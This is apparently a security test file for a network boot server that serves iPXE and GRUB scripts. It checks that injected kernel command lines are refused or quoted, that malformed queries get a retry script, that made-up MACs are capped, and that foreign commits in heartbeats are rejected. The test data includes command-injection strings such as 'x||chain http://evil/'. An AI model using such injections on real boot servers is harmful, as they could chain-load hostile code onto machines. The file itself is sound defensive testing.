/**
 * The open boot routes against hostile input, on a real server over
 * loopback: kernel command lines iPXE would run as commands, malformed boot
 * queries, made-up MACs and heartbeats naming commits to keep them from gc.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startServer, type RunningServer } from '../server/main.ts';
import { importProfile, tempDir } from './helpers/server-fixture.ts';

let tmp: ReturnType<typeof tempDir>;
let srv: RunningServer;
let secretBase: string;
const LEASE_MS = 4000;
const UNKNOWN_MAX = 5;
const KNOWN = '52:54:00:aa:00:01';

beforeAll(async () => {
  tmp = tempDir('strata-boot-holes-');
  const data = join(tmp.dir, 'data');
  mkdirSync(data, { recursive: true });
  writeFileSync(join(data, 'config.json'), JSON.stringify({ unknownClientsMax: UNKNOWN_MAX, leaseMs: LEASE_MS }));
  srv = await startServer({ dataDir: data, http: '127.0.0.1:0', ssh: '127.0.0.1:0', handleSignals: false, log: () => {} });
  await importProfile(srv.store, tmp.dir, 'lab');
  secretBase = (await importProfile(srv.store, tmp.dir, 'secret')).base;
  srv.store.assign('default', 'lab');
  srv.store.assign(KNOWN, 'lab');
}, 180_000);

afterAll(async () => {
  await srv?.close();
  tmp?.cleanup();
});

const get = async (path: string) => {
  const r = await fetch(`${srv.httpUrl}${path}`);
  return { status: r.status, text: await r.text() };
};
const post = async (path: string, body: unknown) => {
  const r = await fetch(`${srv.httpUrl}${path}`, {
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  });
  return { status: r.status, json: (await r.json()) as Record<string, unknown> };
};
const mac = (i: number) => `52:54:00:bb:${(i >> 8).toString(16).padStart(2, '0')}:${(i & 255).toString(16).padStart(2, '0')}`;

/** A script that says why, waits and asks again (iPXE). */
function expectIpxeRetry(text: string, why: RegExp) {
  expect(text.startsWith('#!ipxe\n')).toBe(true);
  expect(text).toMatch(why);
  expect(text).toMatch(/\nsleep 30\n/);
  expect(text).toMatch(/\nchain http:\/\/127\.0\.0\.1:\d+\/v1\/boot\/ipxe/);
  expect(text).not.toMatch(/^kernel /m);
}

describe('kernel command lines iPXE would run', () => {
  for (const cmdline of ['quiet ; shell', 'quiet;shell', 'a&&reboot', 'x||chain http://evil/', '#comment']) {
    it(`"${cmdline}" is refused when an admin sets it, for a profile and an assignment`, () => {
      expect(() => srv.store.setCmdline('lab', cmdline)).toThrow(/kernel command line refused: .*iPXE/);
      expect(() => srv.store.assign('52:54:00:cc:00:01', 'lab', { cmdline })).toThrow(/kernel command line refused/);
      expect(srv.store.getProfile('lab').cmdline).toBe('');
      expect(srv.store.listAssignments().some((a) => a.match === '52:54:00:cc:00:01')).toBe(false);
    });
  }

  it('a command line stored before the rule is never put on the kernel line: iPXE gets a retry, GRUB a quoted word', async () => {
    srv.store.db.prepare('UPDATE profiles SET cmdline = ? WHERE name = ?').run('quiet ; shell || chain http://evil/x', 'lab');
    try {
      const ipxe = await get(`/v1/boot/ipxe?mac=${KNOWN}`);
      expect(ipxe.status).toBe(200);
      expectIpxeRetry(ipxe.text, /kernel command line of this client is refused/);
      // Not even the echo line runs the injected words.
      for (const line of ipxe.text.split('\n')) expect(line).not.toMatch(/;|&&|\|\|/);
      const grub = await get(`/v1/boot/grub?mac=${KNOWN}`);
      expect(grub.text).toMatch(/^ {2}linux \S+ .* quiet ';' shell '\|\|' chain/m);
    } finally {
      srv.store.setCmdline('lab', 'quiet');
    }
    expect((await get(`/v1/boot/ipxe?mac=${KNOWN}`)).text).toMatch(/^kernel \S+ initrd=initrd.img .* quiet( \S+)* \|\| goto failed$/m);
  });
});

describe('malformed boot queries', () => {
  for (const flavour of ['ipxe', 'grub'] as const) {
    it(`${flavour}: mac given twice, ip given twice or a mac that is not one get a script that says so and asks again`, async () => {
      const cases: [string, RegExp][] = [
        [`mac=${KNOWN}&mac=52:54:00:aa:00:02`, /mac= more than once/],
        [`mac=${KNOWN}&ip=10.0.0.1&ip=10.0.0.2`, /ip= more than once/],
        ['mac=zz:not:a:mac', /is not a MAC address/],
      ];
      for (const [q, why] of cases) {
        const r = await get(`/v1/boot/${flavour}?${q}`);
        expect(r.status, q).toBe(200);
        if (flavour === 'ipxe') expectIpxeRetry(r.text, why);
        else {
          expect(r.text).toMatch(why);
          expect(r.text).toMatch(/^sleep 30$/m);
          expect(r.text).not.toMatch(/^\s*linux /m);
        }
      }
    });
  }
});

describe('unknown MACs and heartbeats', () => {
  it('boots from made-up MACs keep at most the configured number of rows (and gc roots); assigned MACs stay', async () => {
    expect((await get(`/v1/boot/ipxe?mac=${KNOWN}`)).text).toMatch(/^kernel /m);
    for (let i = 0; i < 40; i++) expect((await get(`/v1/boot/ipxe?mac=${mac(i)}`)).text).toMatch(/^kernel /m);
    const rows = srv.store.listClients();
    const unknown = rows.filter((c) => c.mac !== KNOWN);
    expect(unknown.length).toBe(UNKNOWN_MAX);
    // The most recent ones are kept.
    expect(unknown.map((c) => c.mac).sort()).toEqual([35, 36, 37, 38, 39].map(mac));
    expect(rows.some((c) => c.mac === KNOWN)).toBe(true);
    const leaseRoots = [...srv.store.gcRoots().values()].flat().filter((r) => r.kind === 'lease');
    expect(leaseRoots.length).toBeLessThanOrEqual(UNKNOWN_MAX + 1);
  });

  it('rows of unknown MACs expire after the lease time; an assigned MAC is kept', async () => {
    await new Promise((r) => setTimeout(r, LEASE_MS + 500));
    await get(`/v1/boot/ipxe?mac=${mac(100)}`);
    expect(
      srv.store
        .listClients()
        .map((c) => c.mac)
        .sort(),
    ).toEqual([KNOWN, mac(100)].sort());
  });

  it("a heartbeat may name the commit the client was served or one of its profile, not another profile's", async () => {
    const served = srv.store.getProfile('lab').head!;
    await get(`/v1/boot/ipxe?mac=${mac(200)}`);
    expect((await post(`/v1/clients/${mac(200)}/heartbeat`, { commit: served })).status).toBe(200);
    const foreign = await post(`/v1/clients/${mac(200)}/heartbeat`, { commit: secretBase });
    expect(foreign.status).toBe(403);
    expect(JSON.stringify(foreign.json)).toContain('neither served to it nor has in the history of a profile assigned to it');
    const agent = await post('/v1/heartbeat', { mac: mac(201), commit: secretBase, uptimeSec: 5 });
    expect(agent.status).toBe(403);
    // Nothing keeps the other profile's base for these MACs.
    const roots = srv.store.gcRoots().get(secretBase) ?? [];
    expect(roots.filter((r) => r.kind === 'lease')).toEqual([]);
    expect(srv.store.listClients().find((c) => c.mac === mac(200))?.commit).toBe(served);
    expect(srv.store.listClients().some((c) => c.mac === mac(201))).toBe(false);
  });
});
